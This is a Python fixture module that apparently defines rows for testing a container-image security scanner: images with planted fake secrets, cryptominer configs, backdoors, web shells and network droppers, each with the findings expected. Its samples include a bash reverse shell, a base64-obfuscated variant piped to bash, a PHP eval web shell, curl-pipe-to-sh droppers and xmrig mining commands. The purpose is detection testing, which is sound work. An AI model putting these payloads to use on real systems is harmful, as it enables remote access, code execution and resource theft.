# SPDX-License-Identifier: Apache-2.0
# not-a-test: the rows of test_image_set.py
"""
Images, each with one thing planted into a clean base: rows of what is in the layer, what the config
says, and which findings must come of it. Everything is harmless: texts, settings and binaries that
hold markers only; names are invented, and nobody is asked for them. What looks like a secret is put
together here, by random digits and right checksums, and opens nothing.
"""
import base64
import gzip
import hashlib
import io
import json
import random
import string
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

RANDOM = random.Random(20221028)  # the same images in every run
DIGITS = string.digits + string.ascii_uppercase + string.ascii_lowercase
# Published for donations by the Monero project; no reader of this pays into it by accident.
MONERO = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7Sq"
          "SsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
POOL = "pool.supportxmr.com:3333"


@dataclass
class Plant:
    """
    name: of the image below plants/. files: path to content, or (content, mode), or ("->", target).
    wants: regular expressions of "check path", each of which some finding must match; every finding
    above info must match one of them, or one of `may`. verdict: what may be said. under: a layer below that `files`
    covers. gone: paths that the top layer deletes. form: how it is handed over.
    """
    name: str
    files: dict = field(default_factory=dict)
    wants: tuple = ()
    verdict: tuple = ("clean",)
    config: tuple = ()
    step: str = "COPY . /"
    under: dict = field(default_factory=dict)
    gone: tuple = ()
    base: str = "debian"
    form: str = "registry"
    reach: str = ""
    facts: dict = field(default_factory=dict)
    may: tuple = ()


def digits(n, alphabet=DIGITS):
    return "".join(RANDOM.choice(alphabet) for _ in range(n))


def base62(n, width):
    out = ""
    while n:
        out, n = DIGITS[n % 62] + out, n // 62
    return out.rjust(width, "0")


def checked(prefix, n=30):
    """A token of GitHub's and npm's kind: the last six digits are the CRC-32 of those before."""
    body = digits(n)
    return prefix + body + base62(zlib.crc32(body.encode()), 6)


def private_key(kind="rsa"):
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "k"
        options = {"rsa": ["-t", "rsa", "-b", "2048", "-m", "PEM"], "ed25519": ["-t", "ed25519"]}[kind]
        subprocess.run(["ssh-keygen", "-q", "-N", "", "-C", "test@example.invalid", *options, "-f", path],
                       check=True)
        return path.read_text("utf-8"), path.with_suffix(".pub").read_text("utf-8")


def miner_config(pool=POOL, wallet=MONERO):
    return json.dumps({"autosave": True, "cpu": {"enabled": True, "huge-pages": True}, "donate-level": 1,
                       "randomx": {"mode": "auto"}, "pools": [
                           {"algo": "rx/0", "coin": None, "url": pool, "user": wallet, "pass": "x",
                            "keepalive": True, "tls": False}]}, indent=4)


def elf(*markers, pad=4096):
    """An ELF file that no kernel would run: a head, and markers among zeros and noise."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)
    noise = bytes(RANDOM.randrange(256) for _ in range(64))
    return head + b"".join(bytes(pad) + noise + m.encode() + b"\0" for m in markers) + bytes(pad)


def tar_of(files, mode="w:gz"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, data in files.items():
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zip_of(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def secrets():
    aws_id, aws_key = "AKIA" + digits(16, string.ascii_uppercase + "234567"), digits(40, DIGITS + "+/")
    rsa, _ = private_key()
    ed25519, _ = private_key("ed25519")
    github = checked("gh" + "p_")
    bad, any_secret = ("risky", "suspicious"), (r"secret-.* /",)
    return [
        Plant("secret-github", {"/app/.env": f"GITHUB_TOKEN={github}\n"}, (r"secret-.*github.* /app/.env",), bad),
        Plant("secret-aws", {"/root/.aws/credentials": f"[default]\naws_access_key_id = {aws_id}\n"
                             f"aws_secret_access_key = {aws_key}\n"}, (r"secret-.*aws.* /root/.aws/credentials",), bad),
        Plant("secret-ssh-key", {"/root/.ssh/id_ed25519": (ed25519, 0o600)}, (r"secret-.*key.* /root/.ssh/id_ed25519",),
              bad),
        Plant("secret-rsa-key", {"/etc/nginx/tls/server.key": (rsa, 0o600)}, (r"secret-.*key.* /etc/nginx",), bad),
        Plant("secret-deleted", {"/etc/motd": "hello\n"}, (r"secret-.*key.* /root/.ssh/id_rsa",), bad,
              under={"/root/.ssh/id_rsa": (rsa, 0o600)}, gone=("/root/.ssh/id_rsa",)),
        Plant("secret-npm", {"/root/.npmrc": f"//registry.npmjs.org/:_authToken={checked('np' + 'm_')}\n"},
              (r"secret-.*npm.* /root/.npmrc",), bad),
        Plant("secret-database", {"/app/settings.py": "DATABASE_URL = 'postgres://app:" + digits(20) +
                                  "@db.internal.example:5432/app'\n"}, any_secret, bad),
        Plant("secret-docker", {"/root/.docker/config.json": json.dumps({"auths": {"registry.example.com": {
            "auth": base64.b64encode(f"deploy:{digits(24)}".encode()).decode()}}})}, any_secret, bad),
        Plant("secret-env", config=("--config.env", f"GITHUB_TOKEN={checked('gh' + 'p_')}"),
              wants=(r"secret-.*github.* ", r"config-secret-name "), verdict=bad),
        Plant("secret-history", {"/app/x": "x"}, (r"secret-.*github.* ",), bad,
              step=f"RUN git clone https://x:{checked('gh' + 'p_')}@github.com/example/app.git"),
        Plant("secret-base64", {"/app/k8s.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: app}\ndata:\n  token: " +
                                base64.b64encode(checked("gh" + "p_").encode()).decode() + "\n"},
              (r"secret-.*github.* /app/k8s.yaml",), bad),
        Plant("secret-nested", {"/opt/backup.tar.gz": tar_of({"home/id_rsa": rsa})},
              (r"secret-.*key.* /opt/backup.tar.gz!/home/id_rsa",), bad),
        Plant("secret-deep", {"/opt/app.war": zip_of({"WEB-INF/lib/a.jar": zip_of({"app.properties":
              f"github.token={checked('gh' + 'p_')}\n"})})},
              (r"secret-.*github.* /opt/app.war!/WEB-INF/lib/a.jar!/app.properties",), bad),
        Plant("secret-slack", {"/app/notify.sh": "curl -d text=hi https://hooks.slack.com/services/T" + digits(10, string.digits) +
                               "/B" + digits(10, string.digits) + "/" + digits(24) + "\n"}, any_secret, bad),
        Plant("secret-stripe", {"/app/config.yml": "stripe:\n  key: sk_" + "live_" + digits(24) + "\n"}, any_secret, bad),
        Plant("secret-gitlab", {"/app/.gitlab.env": "TOKEN=gl" + "pat-" + digits(20) + "\n"}, any_secret, bad),
        Plant("secret-netrc", {"/root/.netrc": f"machine git.example.com login deploy password {digits(22)}\n"},
              any_secret, bad),
    ]


def miners():
    bad, look = ("malicious",), ("suspicious", "malicious")
    script = f"#!/bin/sh\nexec /opt/m/xmrig -o stratum+tcp://{POOL} -u {MONERO} -p x --donate-level 1\n"
    return [
        Plant("miner-config", {"/opt/m/config.json": miner_config()}, (r"miner-config /opt/m/config.json",), bad,
              facts={"wallet": MONERO, "pool": POOL}),
        Plant("miner-entrypoint", {"/start.sh": (script, 0o755)}, (r"miner-command /start.sh",), bad,
              ("--config.entrypoint", "/start.sh"), reach="entrypoint", may=(r"malware-.* /start.sh",)),
        Plant("miner-cmd", config=("--config.cmd", "/usr/bin/xmrig", "--config.cmd", "-o", "--config.cmd", POOL,
                                   "--config.cmd", "-u", "--config.cmd", MONERO),
              wants=(r"miner-command ",), verdict=look),
        Plant("miner-program", {"/usr/local/bin/kworkerd": (elf("XMRig 6.26.0", "donate.v2.xmrig.com", "donate.ssl.xmrig.com",
              "Usage: xmrig [OPTIONS]", "--donate-level=N", "--randomx-1gb-pages", "stratum+ssl://", "cn-heavy/xhv"), 0o755)},
              (r"(miner|malware)-.* /usr/local/bin/kworkerd",), look),
        Plant("miner-history", {"/app/x": "x"}, (r"miner-.* ",), look,
              step=f"RUN echo './xmrig -o {POOL} -u {MONERO} -k' > /etc/profile.d/x.sh"),
        Plant("miner-cron", {"/etc/cron.d/sys": f"* * * * * root /usr/bin/.x -o stratum+tcp://{POOL} -u {MONERO}\n"},
              (r"miner-command /etc/cron.d/sys", r"backdoor-cron.* /etc/cron.d/sys"), bad, reach="cron",
              may=(r"malware-.* /etc/cron.d/sys",)),
        Plant("miner-deleted", {"/etc/motd": "hello\n"}, (r"miner-config /opt/m/config.json",),
              ("suspicious", "malicious"), under={"/opt/m/config.json": miner_config()}, gone=("/opt/m/config.json",)),
        Plant("miner-nested", {"/opt/data.tgz": tar_of({"m/config.json": miner_config()})},
              (r"miner-config /opt/data.tgz!/m/config.json",), bad),
        Plant("miner-stock-config", {"/etc/xmrig/config.json": miner_config("donate.v2.xmrig.com:3333", "YOUR_WALLET_ADDRESS")},
              (r"miner-config-stock /etc/xmrig/config.json",), ("clean", "suspicious")),
    ]


def malware():
    look = ("suspicious", "malicious")
    _, public = private_key("ed25519")
    shell = "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"
    hashed = b"a harmless file that a list of the test's own calls bad\n"
    return [
        Plant("malware-shell", {"/usr/local/bin/sync.sh": (shell, 0o755)}, (r"malware-.* /usr/local/bin/sync.sh",), look),
        Plant("malware-shell-entrypoint", {"/e.sh": (shell, 0o755)}, (r"malware-.* /e.sh",),
              ("malicious",), ("--config.entrypoint", "/e.sh"), reach="entrypoint", may=(r"config-start-connects ",)),
        Plant("malware-obfuscated", {"/opt/run.sh": ("#!/bin/sh\necho " + base64.b64encode(shell.encode() * 4).decode() +
              " | base64 -d | bash\n", 0o755)}, (r"malware-.* /opt/run.sh",), look),
        Plant("malware-web-shell", {"/var/www/html/up.php": "<?php @eval(base64_decode($_POST['c'])); ?>\n"},
              (r"malware-.* /var/www/html/up.php",), look),
        Plant("malware-hash", {"/opt/tool.bin": hashed}, (r"malware-known-hash /opt/tool.bin",), look,
              facts={"sha256": hashlib.sha256(hashed).hexdigest()}),
        Plant("backdoor-key", {"/root/.ssh/authorized_keys": (public, 0o600)},
              (r"backdoor-authorized-key /root/.ssh/authorized_keys",), ("suspicious", "malicious", "risky")),
        Plant("backdoor-preload", {"/etc/ld.so.preload": "/usr/lib/libproc.so\n"}, (r"backdoor-preload /etc/ld.so.preload",),
              look),
        Plant("backdoor-root-account", {"/etc/passwd": "root:x:0:0:root:/root:/bin/sh\nsupport:x:0:0::/:/bin/sh\n"},
              (r"backdoor-root-account /etc/passwd",), ("suspicious", "malicious", "risky")),
        Plant("backdoor-empty-password", {"/etc/shadow": ("root::19000:0:99999:7:::\n", 0o640)},
              (r"backdoor-empty-password /etc/shadow",), ("suspicious", "malicious", "risky"),
              may=(r"secret-empty-password /etc/shadow",)),
        Plant("backdoor-setuid", {"/usr/local/bin/rootsh": (elf("sh"), 0o4755)}, (r"backdoor-setuid /usr/local/bin/rootsh",),
              ("suspicious", "malicious", "risky", "clean")),
        Plant("backdoor-unit", {"/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'curl -s http://"
              "drop.example.invalid/u | sh'\n[Install]\nWantedBy=multi-user.target\n"},
              (r"(backdoor-unit|malware-.*|network-.*) /etc/systemd/system/upd.service",), look),
        Plant("backdoor-hidden", {"/tmp/.ICE-unix/.x": (elf("payload"), 0o755)}, (r"backdoor-(hidden-program|odd-place|odd-name) /tmp",),
              ("suspicious", "malicious", "risky")),
    ]


def network():
    look = ("suspicious", "malicious", "risky")
    return [
        Plant("network-dynamic-dns", {"/usr/local/bin/beat.sh": ("#!/bin/sh\ncurl -s http://box17.duckdns.org/ping\n", 0o755)},
              (r"network-dynamic-dns /usr/local/bin/beat.sh",), look + ("clean",)),
        Plant("network-malicious", {"/usr/local/bin/up.sh": ("#!/bin/sh\nwget -q http://c2.koban-plant.com/a\n", 0o755)},
              (r"network-malicious /usr/local/bin/up.sh",), look),
        Plant("network-new", {"/app/c.conf": "endpoint = https://fresh.koban-plant.com/api\n"},
              (r"network-new-domain /app/c.conf",), look + ("clean",)),
        Plant("network-proxy", {"/etc/shadowsocks-libev/config.json": json.dumps({"server": "0.0.0.0", "server_port": 8388,
              "password": "barfoo!", "method": "chacha20-ietf-poly1305", "mode": "tcp_and_udp"})},
              (r"network-proxy.* /etc/shadowsocks",), look + ("clean",),
              may=(r"secret-.* /etc/shadowsocks", r"malware-tunnel-config /etc/shadowsocks")),
        Plant("network-drop", {"/e.sh": ("#!/bin/sh\ncurl -fsSL https://pastebin.com/raw/abcd1234 | sh\n", 0o755)},
              (r"network-drop /e.sh", r"malware-.* /e.sh"), look, ("--config.entrypoint", "/e.sh"),
              may=(r"config-start-fetches ",)),
    ]


def settings():
    any_verdict = ("clean", "risky", "suspicious")
    return [
        Plant("config-fetch-run", {"/app/x": "x"}, (r"config-fetch-run ",), any_verdict, may=(r"malware-.* ",),
              step="RUN curl -fsSL https://get.example.invalid/install.sh | sh"),
        Plant("config-remote-add", {"/app/x": "x"}, (r"config-(remote-add|fetch-plain) ",), any_verdict,
              step="ADD http://files.example.invalid/tool.tar.gz /opt"),
        Plant("config-port", config=("--config.exposedports", "2375/tcp"), wants=(r"config-port ",), verdict=any_verdict),
        Plant("config-unverified", {"/app/x": "x"}, (r"config-unverified ",), any_verdict,
              step="RUN pip install --trusted-host pypi.example.invalid thing"),
        Plant("config-sudoers", {"/etc/sudoers.d/app": ("app ALL=(ALL) NOPASSWD: ALL\n", 0o440)},
              (r"backdoor-sudo-everything /etc/sudoers.d/app",), any_verdict),
        Plant("distro-ended", {"/etc/os-release": 'ID=debian\nVERSION_ID="8"\nPRETTY_NAME="Debian GNU/Linux 8 (jessie)"\n'},
              (r"distro-ended /etc/os-release",), any_verdict),
    ]


def clean():
    """Things that are much like the above, and are nothing."""
    return [
        Plant("clean-debian", {"/app/hello.txt": "hello\n"}),
        Plant("clean-alpine", {"/app/hello.txt": "hello\n"}, base="alpine"),
        Plant("clean-placeholder", {"/app/.env.example": "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
                                    "AWS_SECRET_ACCESS_KEY=changeme\nDATABASE_URL=postgres://user:password@localhost/db\n"}),
        Plant("clean-public-key", {"/etc/ssl/server.pem": "-----BEGIN PUBLIC KEY-----\n" + base64.b64encode(bytes(
            RANDOM.randrange(256) for _ in range(270))).decode() + "\n-----END PUBLIC KEY-----\n"}),
        Plant("clean-hashes", {"/app/package-lock.json": json.dumps({"packages": {f"node_modules/p{i}": {
            "version": "1.0.0", "integrity": "sha512-" + base64.b64encode(hashlib.sha512(bytes([i])).digest()).decode()}
            for i in range(50)}})}),
        Plant("clean-prose", {"/usr/share/doc/x/README": "Monero is mined with RandomX; XMRig is a miner. A pool speaks "
                              "stratum. Never pipe curl into sh.\n"}),
        Plant("clean-wallet-typo", {"/app/donate.txt": "donate: " + MONERO[:-1] + ("B" if MONERO[-1] != "B" else "C") + "\n"}),
        Plant("clean-docker-archive", {"/app/hello.txt": "hello\n"}, form="docker-archive"),
        Plant("clean-gzip", {"/opt/notes.txt.gz": gzip.compress(b"just notes\n" * 100)}),
    ]


def forms():
    """The same plant in every form that an image can have."""
    return [Plant(f"form-{form}", {"/opt/m/config.json": miner_config()}, (r"miner-config /opt/m/config.json",),
                  ("malicious",), form=form) for form in ("docker-archive", "docker-archive-gz", "oci", "oci-archive", "dir")]


def impostors():
    """name, wants: pushed as they are, not below plants/."""
    look = ("suspicious", "malicious", "risky", "clean")
    return [
        Plant("vibersastra/ubuntu", {"/app/x": "x"}, (r"masquerade-name ",), look),
        Plant("c43602f9cc95/openjdk", {"/app/x": "x"}, (r"masquerade-name ",), look),
        Plant("helper/ngnix", {"/app/x": "x"}, (r"masquerade-name ",), look),
        Plant("tools/pyth0n", {"/app/x": "x"}, (r"masquerade-name ",), look),
        # the third letter of the title is Cyrillic
        Plant("plants/title-lies", {"/app/x": "x"}, (r"masquerade-name ",), look,
              ("--config.label", "org.opencontainers.image.title=ng\u0456nx")),
    ]


def all_plants():
    rows = secrets() + miners() + malware() + network() + settings() + clean() + forms()
    for p in rows:
        p.name = f"plants/{p.name}"
    return rows + impostors()
